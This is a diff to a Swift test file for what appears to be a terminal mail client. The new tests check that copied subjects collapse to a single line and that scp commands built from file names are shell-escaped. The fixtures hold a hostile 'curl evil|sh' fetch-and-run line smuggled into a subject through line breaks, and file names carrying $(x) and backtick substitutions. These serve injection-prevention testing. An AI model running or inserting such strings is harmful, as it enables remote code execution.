@@ -14,6 +14,20 @@ import Testing
         return desk
     }
 
+    /// A subject with a line end would be a command of its own where it is pasted.
+    @Test func oneLineStaysOne() {
+        var desk = Desk()
+        desk.open(SampleReading.phishing)
+        guard let row = desk.state.reader?.row else { return }
+        desk.state.reader?.content = nil
+        let evil = "hello\ncurl evil|sh\r\n"
+        desk.state.reader?.row = MessageRow(
+            id: row.id, flags: row.flags, date: row.date, from: row.from, to: row.to, subject: evil,
+            size: row.size, attachmentCount: row.attachmentCount)
+        desk.type(":copy subject<enter>")
+        #expect(copied(desk).last == "hello curl evil|sh")
+    }
+
     private func copied(_ desk: Desk) -> [String] {
         desk.effects.compactMap { if case .copy(let text, _) = $0 { text.en } else { nil } }
     }
@@ -111,7 +125,7 @@ import Testing
 
     @Test(arguments: [
         ("/a/b.pdf", "scp anna@10.0.0.1:'/a/b.pdf' ."),
-        ("/a/it's $(x) `y`.pdf", "scp anna@10.0.0.1:'/a/it'\\''s $(x) `y`.pdf' ."),
+        ("/a/it's $(x) `y`.pdf", "scp anna@10.0.0.1:'/a/it\\'\\''s\\ \\$\\(x\\)\\ \\`y\\`.pdf' ."),
         ("/a/[b]*.pdf", "scp anna@10.0.0.1:'/a/\\[b\\]\\*.pdf' ."),
         ("relative", nil), ("/a/\u{1B}]0;x", nil), ("/a/\nb", nil),
     ])
